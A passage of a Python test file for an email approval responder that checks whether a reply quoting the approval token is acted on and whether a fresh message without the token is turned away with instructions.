        f"On Sat, 28 Nov 2026 at 08:55, Service Desk <{RESPONDER_ADDRESS}> wrote:\n\n"
        f"> Ticket [ID:1500] needs your approval.\n> {quoted}\n"
    )
    return reply("alice@example.com", "Re: Approval required [ID:1500]", body)


async def test_with_require_token_a_reply_quoting_the_approval_email_is_acted_on(
    bound: Harness,
) -> None:
    bound.deliver(token_reply("Reference: 7f3c2a9e-51d4-4b8e-\n> 9a0c-2d6e8f1b3c57"))  # wrapped

    result = await bound.once()

    assert [r.outcome for r in result.reports] == ["approved"]
    assert bound.halo.approver(1500, 1)["result"] == 1


async def test_with_require_token_a_fresh_message_without_the_token_decides_nothing(
    bound: Harness,
) -> None:
    """An authenticated approver, but not answering the approval email: nothing recorded,
    and she is told to reply to the email she received."""
    bound.deliver(token_reply("Reference: (none quoted)"))

    result = await bound.once()

    assert [r.outcome for r in result.reports] == ["token-missing"]
    assert bound.posts() == []
    assert bound.halo.approver(1500, 1)["result"] is None
    [answer] = bound.answers()
    assert answer["To"] == "alice@example.com"
    assert "reply to the approval email you received" in text_of(answer)
    assert len(bound.folder("Approvals/Unmatched")) == 1
